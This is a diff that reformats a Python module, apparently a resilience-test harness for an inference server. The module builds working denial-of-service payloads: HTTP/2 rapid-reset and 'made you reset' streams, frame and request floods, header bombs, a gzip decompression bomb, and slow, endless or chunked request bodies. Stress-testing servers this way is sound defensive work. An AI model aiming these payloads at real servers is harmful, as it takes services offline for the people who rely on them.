@@ -48,14 +48,19 @@ def rapid_reset_http() -> Ammunition:
     encoder = hpack.Encoder()
     what = wire.fields("GET", "/v2/health/ready")
     streams = range(1, 40_001, 2)
-    return Ammunition(greeting(), b"".join(headers(encoder, n, what, end=True) + wire.reset(n) for n in streams), endless=False)
+    return Ammunition(
+        greeting(),
+        b"".join(headers(encoder, n, what, end=True) + wire.reset(n) for n in streams),
+        endless=False,
+    )
 
 
 def rapid_reset_grpc() -> Ammunition:
     encoder = hpack.Encoder()
     message = wire.add1_message()
     blob = b"".join(
-        headers(encoder, n, wire.GRPC_FIELDS, end=False) + wire.data(n, message, end=True) + wire.reset(n) for n in range(1, 40_001, 2)
+        headers(encoder, n, wire.GRPC_FIELDS, end=False) + wire.data(n, message, end=True) + wire.reset(n)
+        for n in range(1, 40_001, 2)
     )
     return Ammunition(greeting(), blob, endless=False)
 
@@ -65,7 +70,9 @@ def made_you_reset() -> Ammunition:
     encoder = hpack.Encoder()
     message = wire.add1_message()
     blob = b"".join(
-        headers(encoder, n, wire.GRPC_FIELDS, end=False) + wire.data(n, message, end=True) + wire.window_update(n, 0)
+        headers(encoder, n, wire.GRPC_FIELDS, end=False)
+        + wire.data(n, message, end=True)
+        + wire.window_update(n, 0)
         for n in range(1, 40_001, 2)
     )
     return Ammunition(greeting(), blob, endless=False)
@@ -74,7 +81,11 @@ def made_you_reset() -> Ammunition:
 def requests_flood() -> Ammunition:
     """Calls without an end to the streams: more than the server announced to take at once."""
     encoder = hpack.Encoder()
-    return Ammunition(greeting(), b"".join(headers(encoder, n, wire.GRPC_FIELDS, end=False) for n in range(1, 40_001, 2)), endless=False)
+    return Ammunition(
+        greeting(),
+        b"".join(headers(encoder, n, wire.GRPC_FIELDS, end=False) for n in range(1, 40_001, 2)),
+        endless=False,
+    )
 
 
 def settings_flood() -> Ammunition:
@@ -98,7 +109,9 @@ def ping_flood() -> Ammunition:
 
 
 def priority_flood() -> Ammunition:
-    return Ammunition(greeting(), b"".join(frame(wire.PRIORITY, 0, n, b"\0\0\0\0\x10") for n in range(1, 40_001, 2)))
+    return Ammunition(
+        greeting(), b"".join(frame(wire.PRIORITY, 0, n, b"\0\0\0\0\x10") for n in range(1, 40_001, 2))
+    )
 
 
 def unknown_flood() -> Ammunition:
@@ -106,7 +119,10 @@ def unknown_flood() -> Ammunition:
 
 
 def empty_data() -> Ammunition:
-    return Ammunition(greeting() + headers(hpack.Encoder(), 1, wire.GRPC_FIELDS, end=False), repeated(frame(wire.DATA, 0, 1)))
+    return Ammunition(
+        greeting() + headers(hpack.Encoder(), 1, wire.GRPC_FIELDS, end=False),
+        repeated(frame(wire.DATA, 0, 1)),
+    )
 
 
 def padded_data() -> Ammunition:
@@ -138,8 +154,13 @@ def window_dribble() -> Ammunition:
     encoder = hpack.Encoder()
     body = wire.zipped_ident_message()
     what = [*wire.GRPC_FIELDS, ("grpc-encoding", "gzip")]
-    opened = b"".join(headers(encoder, n, what, end=False) + wire.data(n, body, end=True) for n in range(1, 201, 2))
-    return Ammunition(greeting((wire.INITIAL_WINDOW_SIZE, 0)) + opened, b"".join(wire.window_update(n, 1) for n in range(1, 201, 2)))
+    opened = b"".join(
+        headers(encoder, n, what, end=False) + wire.data(n, body, end=True) for n in range(1, 201, 2)
+    )
+    return Ammunition(
+        greeting((wire.INITIAL_WINDOW_SIZE, 0)) + opened,
+        b"".join(wire.window_update(n, 1) for n in range(1, 201, 2)),
+    )
 
 
 def unread_http1() -> Ammunition:
@@ -156,7 +177,9 @@ def unread_http2() -> Ammunition:
     encoder = hpack.Encoder()
     opening = greeting((wire.INITIAL_WINDOW_SIZE, 2**31 - 1)) + wire.window_update(0, 2**31 - 1 - 65535)
     what = wire.fields("GET", "/v2/models/ident/config")
-    return Ammunition(opening, b"".join(headers(encoder, n, what, end=True) for n in range(1, 100_001, 2)), endless=False)
+    return Ammunition(
+        opening, b"".join(headers(encoder, n, what, end=True) for n in range(1, 100_001, 2)), endless=False
+    )
 
 
 def header_bomb() -> Ammunition:
@@ -172,7 +195,9 @@ def header_bomb() -> Ammunition:
 def ten_thousand_fields() -> Ammunition:
     encoder = hpack.Encoder()
     block = encoder.encode(wire.fields("GET", "/")) + b"\x00\x01a\x00" * 4000
-    return Ammunition(greeting(), b"".join(frame(wire.HEADERS, 5, n, block) for n in range(1, 101, 2)), endless=False)
+    return Ammunition(
+        greeting(), b"".join(frame(wire.HEADERS, 5, n, block) for n in range(1, 101, 2)), endless=False
+    )
 
 
 def huge_head() -> Ammunition:
@@ -192,7 +217,9 @@ def gzip_bomb_grpc() -> Ammunition:
     encoder = hpack.Encoder()
     what = [*wire.GRPC_FIELDS, ("grpc-encoding", "gzip")]
     body = wire.grpc_message(wire.bomb(size=63 * MIB), compressed=True)
-    blob = b"".join(headers(encoder, n, what, end=False) + wire.data(n, body, end=True) for n in range(1, 21, 2))
+    blob = b"".join(
+        headers(encoder, n, what, end=False) + wire.data(n, body, end=True) for n in range(1, 21, 2)
+    )
     return Ammunition(greeting(), blob, endless=False)
 
 
@@ -201,7 +228,9 @@ def slow_heads() -> Ammunition:
 
 
 def slow_bodies() -> Ammunition:
-    return Ammunition(f"POST {wire.ADD1} HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n".encode(), b"x" * 1000)
+    return Ammunition(
+        f"POST {wire.ADD1} HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n".encode(), b"x" * 1000
+    )
 
 
 def slow_frames() -> Ammunition:
@@ -214,11 +243,17 @@ def silent() -> Ammunition:
 
 def endless_body() -> Ammunition:
     chunk = b"10000\r\n" + bytes(65536) + b"\r\n"
-    return Ammunition(f"POST {wire.ADD1} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".encode(), repeated(chunk))
+    return Ammunition(
+        f"POST {wire.ADD1} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".encode(),
+        repeated(chunk),
+    )
 
 
 def tiny_chunks() -> Ammunition:
-    return Ammunition(f"POST {wire.ADD1} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".encode(), repeated(b"1\r\nx\r\n"))
+    return Ammunition(
+        f"POST {wire.ADD1} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n".encode(),
+        repeated(b"1\r\nx\r\n"),
+    )
 
 
 def pipelined() -> Ammunition:
@@ -234,7 +269,9 @@ def pipelined_garbage() -> Ammunition:
 
 
 def connection_flood() -> Ammunition:
-    return Ammunition(b"", b"GET /v2/health/ready HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", endless=False)
+    return Ammunition(
+        b"", b"GET /v2/health/ready HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", endless=False
+    )
 
 
 #: Buffers of the body size that a server allows are not an attack's fault: 4 connections of 64 MiB.
